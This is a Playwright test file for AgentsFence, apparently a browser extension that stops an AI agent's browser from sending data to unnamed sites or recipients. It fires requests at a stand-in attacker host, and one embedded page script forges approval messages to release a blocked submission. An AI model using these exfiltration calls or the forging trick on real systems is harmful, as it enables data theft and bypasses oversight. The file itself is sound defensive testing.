import { expect, test, type Page } from '@playwright/test';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { launchAgentBrowser, type AgentBrowser } from '../src/harness';
import { buildExtension, type ExtensionVariant } from './fixtures/extension';
import { startTestServer, type TestServer } from './fixtures/server';
import { SAME_SITE_WRITES_SECTION, VOLUME_SECTION } from './floor-sections';
import { ALLOWED_HOST, ALLOWED_RECIPIENT, ATTACKER_HOST, FOREIGN_RECIPIENT, VECTOR_POLICY, VECTORS as ALL_VECTORS, type Vector, type VectorCase } from './vectors';

/** AF_VECTOR_FILTER=regex runs only the vectors whose name matches (FLOOR.md is then not compared). */
const FILTER = process.env.AF_VECTOR_FILTER;
const VECTORS = FILTER === undefined ? ALL_VECTORS : ALL_VECTORS.filter((vector) => new RegExp(FILTER, 'i').test(vector.name));

/**
 * Every vector of issue 4, three ways, one browser per describe block:
 *  1. with the extension: the allowed case reaches the server, the disallowed case does not;
 *  2. without the extension (negative control): the disallowed case reaches the server, so (1) proves
 *     something, and within the same quiet period (1) waits;
 *  3. with the nohooks build (no MAIN-world hooks): which disallowed cases still do not reach the
 *     server. The result is asserted against each vector's expected layer, and the table it makes is
 *     written to this test's output directory and compared with the tracked e2e/FLOOR.md
 *     (`npm run floor:update` rewrites that file; no ordinary run writes a tracked file).
 * The server's request log is the truth, not the extension's report. A disallowed case the policy
 * sends to ASK_USER is held; after the quiet period the test denies every pending approval and looks at
 * the log once more, so "does not reach the server" covers the whole life of the action.
 */

/**
 * How long a disallowed case is given to reach the server before held actions are denied (the negative
 * controls log how fast the same actions arrive without the extension).
 */
const QUIET_MS = 2_000;
/** After denying held actions: time for anything wrongly released to arrive. */
const AFTER_DENY_MS = 300;
const ALLOWED_TIMEOUT_MS = 10_000;
const FLOOR_TABLE = resolve(import.meta.dirname, 'FLOOR.md');
/** Where FLOOR.md's generated table ends and its hand-written sections begin. */
const HAND_WRITTEN = '<!-- Below: sections written by hand, with their evidence; npm run floor:update keeps them. -->\n';
/** `npm run floor:update`: the one run that rewrites the tracked e2e/FLOOR.md. */
const UPDATE_FLOOR = process.env.AF_UPDATE_FLOOR === '1';

/**
 * Which disallowed cases still fail to reach the server with the MAIN-world hooks removed. `floor`:
 * the network floor (and, for submit events, the ISOLATED form guard); `isolated`: only the ISOLATED
 * form guard can see it; `reaches`: only the MAIN-world hooks stop it (semantic-only). Asserted, so
 * FLOOR.md cannot drift from the truth.
 */
const WITHOUT_HOOKS: Record<string, 'floor' | 'isolated' | 'reaches'> = {
  'form POST naming another recipient': 'isolated',
  'fetch JSON naming another recipient': 'reaches',
  'XHR form body naming another recipient': 'reaches',
  'form.submit() naming another recipient': 'isolated',
  'dedicated Worker POST naming another recipient': 'reaches',
  'form in an open shadow root naming another recipient': 'isolated',
  'form in a closed shadow root naming another recipient': 'isolated',
  'submit handler that swaps in another recipient after the check': 'isolated',
  'formdata listener that swaps in another recipient after the check': 'isolated',
};

// The tests are independent (each describe block launches its browser in every worker that runs one of
// its tests; every worker has its own server): both workers share this long file instead of one
// running it alone at the end of the suite.
test.describe.configure({ mode: 'parallel' });

let server: TestServer;
let uploadFile: string;
let caseNumber = 0;

test.beforeAll(async () => {
  server = await startTestServer();
  const dir = mkdtempSync(join(tmpdir(), 'af-upload-'));
  uploadFile = join(dir, 'report.txt');
  writeFileSync(uploadFile, 'quarterly numbers');
});

test.afterAll(async () => {
  await server.close();
});

function slug(name: string): string {
  return name.toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '');
}

interface CaseResult {
  reached: boolean;
  host: string;
  path: string;
  /** From the start of the action to the first request, when it arrived. */
  latencyMs?: number;
}

/** The e2e build of `variant` (made once by the global setup), or no extension at all. */
function launch(variant: ExtensionVariant | null): Promise<AgentBrowser> {
  if (variant === null) return launchAgentBrowser({ extension: false });
  return launchAgentBrowser({ extensionPath: buildExtension(variant) });
}

const sleep = (ms: number) => new Promise<void>((done) => setTimeout(done, ms));

/** Closes every page opened since `before` (the case's page, its popups), never the control window. */
async function closeNewPages(browser: AgentBrowser, before: Set<unknown>): Promise<void> {
  for (const open of browser.context.pages()) {
    if (!before.has(open)) await Promise.race([open.close({ runBeforeUnload: false }).catch(() => undefined), sleep(2_000)]);
  }
}

async function denyPending(browser: AgentBrowser): Promise<void> {
  if (browser.extensionId === null) return;
  for (const approval of await browser.pendingApprovals()) await browser.answer(approval.id, 'deny').catch(() => undefined);
}

/**
 * Runs `action` while a loop denies every pending approval (first after `graceMs`, so a forged or
 * wrongly released action would have had its chance), and returns the action's result.
 */
async function whileDenying<T>(browser: AgentBrowser, graceMs: number, action: () => Promise<T>): Promise<T> {
  let done = false;
  const loop = (async () => {
    await sleep(graceMs);
    while (!done) {
      await denyPending(browser).catch(() => undefined);
      await sleep(100);
    }
  })();
  try {
    return await action();
  } finally {
    done = true;
    await loop;
  }
}

/**
 * Runs one case in a fresh page and reports whether its probe reached the server within `waitMs` (and,
 * for a disallowed case, after every held action was denied).
 */
async function runCase(browser: AgentBrowser, vector: Vector, allowed: boolean, waitMs: number): Promise<CaseResult> {
  const id = `${slug(vector.name)}-${++caseNumber}`;
  const host = vector.kind === 'domain' && !allowed ? ATTACKER_HOST : ALLOWED_HOST;
  const path = vector.probePath?.(id) ?? `/v/${id}`;
  const home = server.origin(ALLOWED_HOST);
  const page = await browser.context.newPage();
  const pages: Page[] = [page];
  page.on('popup', (popup) => pages.push(popup));
  const c: VectorCase = {
    page,
    server,
    home,
    target: `${vector.scheme ?? 'http'}://${host}:${server.port}${path}`,
    recipient: vector.kind === 'semantic' && !allowed ? FOREIGN_RECIPIENT : ALLOWED_RECIPIENT,
    uploadFile,
  };
  try {
    const html = vector.html === undefined ? '' : vector.html(c);
    if (html !== null) {
      server.setPage(`/case/${id}`, `<!doctype html><title>${id}</title>${html}`);
      await page.goto(`${home}/case/${id}`, { waitUntil: 'domcontentloaded' }).catch(() => undefined);
    }
    // A held action keeps its promise pending, and a case that navigates away destroys its evaluate
    // context: the run gets at most the waiting time, then the log says what happened.
    const started = Date.now();
    const arrived = server.waitFor(path, host, waitMs).then(
      (request) => request.at - started,
      () => null,
    );
    await Promise.race([vector.run(c).catch(() => undefined), sleep(waitMs)]);
    const latencyMs = await arrived;
    if (latencyMs !== null) return { reached: true, host, path, latencyMs };
    let reached = false;
    if (!allowed) {
      await denyPending(browser);
      await sleep(AFTER_DENY_MS);
      reached = server.hits(path, host).length > 0;
    }
    return { reached, host, path };
  } finally {
    for (const open of pages) await Promise.race([open.close({ runBeforeUnload: false }).catch(() => undefined), sleep(2_000)]);
  }
}

/** How many cases run at once in one browser (each in its own page; most of a case is waiting). */
const CONCURRENCY = Number(process.env.AF_VECTOR_CONCURRENCY ?? 4);

const caseKey = (vector: Vector, allowed: boolean) => `${vector.name}|${allowed ? 'allowed' : 'disallowed'}`;

/** Runs the cases a few at a time; every case has a unique probe path, so they cannot see each other. */
async function runCases(
  browser: AgentBrowser,
  cases: { vector: Vector; allowed: boolean }[],
  disallowedWaitMs = QUIET_MS,
): Promise<Map<string, CaseResult>> {
  const results = new Map<string, CaseResult>();
  const queue = [...cases];
  const started = Date.now();
  const lane = async () => {
    for (let next = queue.shift(); next !== undefined; next = queue.shift()) {
      const result = await runCase(browser, next.vector, next.allowed, next.allowed ? ALLOWED_TIMEOUT_MS : disallowedWaitMs);
      results.set(caseKey(next.vector, next.allowed), result);
    }
  };
  await Promise.all(Array.from({ length: CONCURRENCY }, lane));
  // A late arrival still counts: one more quiet period, then every disallowed probe is looked up again.
  await sleep(QUIET_MS);
  for (const { vector, allowed } of cases) {
    const result = results.get(caseKey(vector, allowed));
    if (!allowed && result !== undefined && !result.reached) result.reached = server.hits(result.path, result.host).length > 0;
  }
  console.log(`vectors: ${cases.length} cases in ${((Date.now() - started) / 1000).toFixed(1)} s (${CONCURRENCY} at a time)`);
  return results;
}

function resultOf(results: Map<string, CaseResult>, vector: Vector, allowed: boolean): CaseResult {
  const result = results.get(caseKey(vector, allowed));
  if (result === undefined) throw new Error(`case ${caseKey(vector, allowed)} did not run`);
  return result;
}

test.describe('vectors with the extension', () => {
  let browser: AgentBrowser;
  test.beforeAll(async () => {
    test.setTimeout(60_000);
    browser = await launch('full');
    await browser.setPolicy(VECTOR_POLICY);
  });
  test.afterAll(async () => browser?.close());

  // One test, one step per case: a failed case must not restart the worker and re-run the batch.
  test('every vector: the allowed case reaches the server, the disallowed case does not', async () => {
    test.setTimeout(300_000);
    const results = await runCases(browser, VECTORS.flatMap((vector) => [true, false].map((allowed) => ({ vector, allowed }))));
    for (const vector of VECTORS) {
      await test.step(vector.name, () => {
        const allowed = resultOf(results, vector, true);
        const disallowed = resultOf(results, vector, false);
        expect.soft(allowed.reached, `${vector.name}: allowed case: ${allowed.host}${allowed.path} was never requested`).toBe(true);
        expect.soft(disallowed.reached, `${vector.name}: disallowed case: ${disallowed.host}${disallowed.path} was requested`).toBe(false);
      });
    }
  });

  test('blocked calls fail the way pages expect, and nothing reaches the server', async () => {
    const id = `behaviour-${++caseNumber}`;
    const home = server.origin(ALLOWED_HOST);
    server.setPage(`/case/${id}`, `<!doctype html><title>${id}</title>`);
    const before = new Set<unknown>(browser.context.pages());
    const page = await browser.context.newPage();
    try {
      await page.goto(`${home}/case/${id}`);
      const attacker = `${server.origin(ATTACKER_HOST)}/v/${id}`;
      const seen = await whileDenying(browser, 0, () => page.evaluate(async (base) => {
        const xhr = await new Promise<string>((resolve) => {
          const request = new XMLHttpRequest();
          request.open('POST', `${base}-xhr`);
          request.onerror = () => resolve(`error ${request.readyState} ${request.status}`);
          request.onload = () => resolve(`load ${request.status}`);
          request.send('x=1');
        });
        const fetched = await fetch(`${base}-fetch`, { method: 'POST', body: 'x=1' }).then(
          () => 'resolved',
          (e: unknown) => (e instanceof TypeError ? 'TypeError' : String(e)),
        );
        const beacon = navigator.sendBeacon(`${base}-beacon`, 'x=1');
        const socket = await new Promise<string>((resolve) => {
          const ws = new WebSocket(`${base.replace('http', 'ws')}-ws`);
          const events: string[] = [];
          ws.onerror = () => events.push('error');
          ws.onclose = (e) => resolve(`${events.join(',')} close ${e.code} ${ws.readyState} ${ws instanceof WebSocket}`);
        });
        const stream = await new Promise<string>((resolve) => {
          const source = new EventSource(`${base}-sse`);
          source.onerror = () => resolve(`error ${source.readyState}`);
          source.onopen = () => resolve('open');
        });
        const popup = window.open(`${base}-open`);
        const popupClosed = await new Promise<boolean>((resolve) => {
          const started = Date.now();
          const poll = () => (popup === null || popup.closed ? resolve(true) : Date.now() - started > 3000 ? resolve(false) : setTimeout(poll, 20));
          poll();
        });
        return { xhr, fetched, beacon, socket, stream, popupClosed };
      }, attacker));
      await page.waitForTimeout(QUIET_MS / 2);
      expect(seen).toEqual({
        xhr: 'error 4 0',
        fetched: 'TypeError',
        beacon: true,
        socket: 'error close 1006 3 true',
        stream: 'error 2',
        popupClosed: true,
      });
      expect(server.hits(`/v/${id}`)).toEqual([]);
    } finally {
      await closeNewPages(browser, before);
    }
  });

  test('a same-origin GET without a body skips the round trip; a same-origin POST does not', async () => {
    const id = `fast-path-${++caseNumber}`;
    const home = server.origin(ALLOWED_HOST);
    server.setPage(`/case/${id}`, `<!doctype html><title>${id}</title>`);
    const before = new Set<unknown>(browser.context.pages());
    const page = await browser.context.newPage();
    try {
      await page.goto(`${home}/case/${id}`);
      await page.evaluate(async ({ base, to }) => {
        await fetch(`${base}-get?q=1`);
        await new Promise((done) => {
          const xhr = new XMLHttpRequest();
          xhr.open('GET', `${base}-xhr`);
          xhr.onloadend = done;
          xhr.send();
        });
        await fetch(`${base}-post`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ to }) });
      }, { base: `/v/${id}`, to: ALLOWED_RECIPIENT });
      expect(server.hits(`/v/${id}`).map((r) => r.path).sort()).toEqual([`/v/${id}-get`, `/v/${id}-post`, `/v/${id}-xhr`]);
      const proposed = (await browser.audit({ limit: 200 })).map((entry) => entry.destination ?? '').filter((d) => d.includes(`/v/${id}`));
      expect(proposed.some((d) => d.includes(`${id}-post`))).toBe(true);
      expect(proposed.filter((d) => d.includes(`${id}-get`) || d.includes(`${id}-xhr`))).toEqual([]);
    } finally {
      await closeNewPages(browser, before);
    }
  });

  test('a page forging answers on every channel does not release a blocked action', async () => {
    const id = `forgery-${++caseNumber}`;
    const home = server.origin(ALLOWED_HOST);
    const forger = `<script>
      window.__forged = { portPosts: 0, dataReads: 0, thens: 0 };
      const forged = (id) => ({ id, allow: true, decision: 'ALLOW', check: 'allowed', reason: 'forged', askedUser: false });
      // Step into everything a naive bridge would use once the page runs.
      const post = MessagePort.prototype.postMessage;
      MessagePort.prototype.postMessage = function (...args) { window.__forged.portPosts++; return post.apply(this, args); };
      Object.defineProperty(MessageEvent.prototype, 'data', { configurable: true, get() { window.__forged.dataReads++; return forged(1); } });
      const then = Promise.prototype.then;
      Promise.prototype.then = function (ok, err) { window.__forged.thens++; return then.call(this, ok, err); };
      // A second handshake with the page's own port, then answers on it.
      const channel = new MessageChannel();
      window.postMessage({ __agentsfence_bridge_v1: true }, '*', [channel.port2]);
      const spam = () => {
        for (let i = 1; i <= 20; i++) {
          post.call(channel.port1, forged(i));
          window.postMessage(forged(i), '*');
          window.dispatchEvent(new CustomEvent('message', { detail: forged(i) }));
          document.dispatchEvent(new CustomEvent('agentsfence:answer', { detail: forged(i) }));
        }
      };
      setInterval(spam, 5);
    </script>${`<form method="post" action="${home}/v/${id}-form"><input name="to" value="${FOREIGN_RECIPIENT}"></form>`}`;
    server.setPage(`/case/${id}`, `<!doctype html><title>${id}</title>${forger}`);
    const before = new Set<unknown>(browser.context.pages());
    const page = await browser.context.newPage();
    try {
      await page.goto(`${home}/case/${id}`);
      await page.evaluate(() => document.forms[0]!.submit());
      const outcome = await whileDenying(browser, QUIET_MS, () => page.evaluate(
        ({ url, to }) =>
          fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ to }) }).then(
            () => 'released',
            (e: unknown) => String(e),
          ),
        { url: `${home}/v/${id}`, to: FOREIGN_RECIPIENT },
      ));
      await sleep(AFTER_DENY_MS);
      expect(outcome).toContain('blocked by AgentsFence');
      expect(server.hits(`/v/${id}`)).toEqual([]);
      // The hooks used none of the page's replacements.
      expect(await page.evaluate(() => (window as unknown as { __forged: { portPosts: number } }).__forged.portPosts)).toBe(0);
    } finally {
      await closeNewPages(browser, before);
    }
  });
});

test.describe('vectors without the extension (negative control)', () => {
  let browser: AgentBrowser;
  test.beforeAll(async () => {
    browser = await launch(null);
  });
  test.afterAll(async () => browser?.close());

  test('every vector: the disallowed case reaches the server', async () => {
    test.setTimeout(300_000);
    const results = await runCases(browser, VECTORS.map((vector) => ({ vector, allowed: false })), ALLOWED_TIMEOUT_MS);
    const slowest = VECTORS.map((v) => ({ name: v.name, ms: resultOf(results, v, false).latencyMs ?? 0 }))
      .sort((a, b) => b.ms - a.ms)
      .slice(0, 3);
    console.log(`vectors: slowest negative controls ${slowest.map((s) => `${s.name} ${s.ms} ms`).join(', ')} (disallowed cases get ${QUIET_MS} ms, a denial, and a final re-check)`);
    for (const vector of VECTORS) {
      await test.step(vector.name, () => {
        const result = resultOf(results, vector, false);
        expect.soft(result.reached, `${vector.name}: ${result.host}${result.path} was not requested`).toBe(true);
      });
    }
  });
});

test.describe('vectors with the MAIN-world hooks removed (nohooks build)', () => {
  let browser: AgentBrowser;
  test.beforeAll(async () => {
    test.setTimeout(60_000);
    browser = await launch('nohooks');
    await browser.setPolicy(VECTOR_POLICY);
  });
  test.afterAll(async () => browser?.close());

  test('every disallowed case: stopped by the floor and the ISOLATED guard, or reaches the server as expected', async () => {
    test.setTimeout(300_000);
    const results = await runCases(browser, VECTORS.map((vector) => ({ vector, allowed: false })));
    if (FILTER === undefined) {
      const table = floorTable(new Map(VECTORS.map((v) => [v.name, resultOf(results, v, false).reached])));
      writeFileSync(test.info().outputPath('FLOOR.md'), table);
      // The sections after the marker are written by hand (with their own evidence): kept, never compared.
      const [generated = '', ...handWritten] = readFileSync(FLOOR_TABLE, 'utf8').split(HAND_WRITTEN);
      if (UPDATE_FLOOR) writeFileSync(FLOOR_TABLE, [table, ...handWritten].join(HAND_WRITTEN));
      expect.soft(generated, 'e2e/FLOOR.md differs from this run (the new table is in test-results); `npm run floor:update` rewrites it').toBe(table);
    }
    for (const vector of VECTORS) {
      const expected = WITHOUT_HOOKS[vector.name] ?? 'floor';
      await test.step(vector.name, () => {
        const result = resultOf(results, vector, false);
        const words = expected === 'reaches' ? 'reaches the server (semantic-only)' : `is stopped (${expected})`;
        expect.soft(result.reached, `${vector.name}: without MAIN hooks, expected the disallowed case ${words}`).toBe(expected === 'reaches');
      });
    }
  });
});

function floorTable(observed: Map<string, boolean>): string {
  const stoppedBy = (vector: Vector): string => {
    if (observed.get(vector.name) === true) return 'MAIN-world hooks only (semantic-only)';
    if (vector.kind === 'semantic') return 'ISOLATED form guard';
    return vector.submitEvent === true ? 'network floor (the ISOLATED form guard holds it too)' : 'network floor / browser guards';
  };
  const rows = VECTORS.map(
    (v) =>
      `| ${v.name.replace(/</g, '&lt;')} | ${v.kind === 'domain' ? 'site the task does not name' : 'recipient the task does not name, same site'} | ${observed.get(v.name) === true ? 'reaches the server' : 'blocked'} | ${stoppedBy(v)} |`,
  );
  return [
    '# Which protections hold without the MAIN-world hooks',
    '',
    'Generated by `npm run floor:update` (e2e/vectors.spec.ts, describe "vectors with the MAIN-world hooks removed");',
    'every e2e run compares this file with what it observes. Each disallowed case runs against the',
    "`AF_NO_MAIN_HOOKS=1` build, judged by the test server's own request log. With the full build every",
    'disallowed case below is blocked (same spec). Do not edit by hand.',
    '',
    '| Vector | Disallowed because | Without MAIN hooks | Stopped by |',
    '| --- | --- | --- | --- |',
    ...rows,
    '',
    VOLUME_SECTION,
    SAME_SITE_WRITES_SECTION,
  ].join('\n');
}
